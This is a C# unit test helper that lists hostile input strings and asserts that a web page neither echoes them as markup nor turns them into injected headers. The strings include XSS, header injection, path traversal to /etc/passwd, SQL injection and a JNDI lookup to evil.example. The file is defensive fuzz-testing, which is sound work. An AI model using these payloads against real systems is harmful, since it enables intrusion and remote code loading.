namespace Dex.Tests.Unit.Attacks;

/// <summary>Texts that break what is careless: markup, headers, paths, templates, SQL, encodings, numbers, and sheer length.</summary>
internal static class NastyText
{
    public static IReadOnlyList<string> All { get; } =
    [
        "", " ", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "'\"`</title><script>alert(1)</script>",
        "javascript:alert(1)", "\0", "a\0b", "\u0001\u001f\u007f", "\r\nX-Evil: 1\r\n\r\nevil", "%0d%0aX-Evil:%201", "%", "%zz", "%00", "../../../../etc/passwd",
        "..%2f..%2f", "{{7*7}}${7*7}#{7*7}", "${jndi:ldap://evil.example/x}", "' OR 1=1; --", "é世界😀\u202e\ufeff", "\ufffe\uffff", "-1", "99999999999999999999", "NaN",
        "none login", "code code code", "openid openid email email", "null", "[]", "{}", "a b\tc\nd", new string('a', 6000), new string('\u0301', 1000),
        string.Join(' ', Enumerable.Range(0, 500).Select(i => $"s{i}")),
    ];

    /// <summary>Fails when a page repeats one of them so that a browser would take it for markup, or a header came of it.</summary>
    public static void AssertHarmless(VisitedPage page, string said)
    {
        Xunit.Assert.True(page.Status < 500, $"{said}: {page.Status} at {page.Address}");
        foreach (var markup in new[] { "<script>alert", "<img src=x", "\" autofocus onfocus" })
        {
            Xunit.Assert.False(page.Body.Contains(markup, StringComparison.OrdinalIgnoreCase), $"{said}: {page.Body}");
        }

        Xunit.Assert.False(page.Headers.ContainsKey("X-Evil"), said);
    }
}
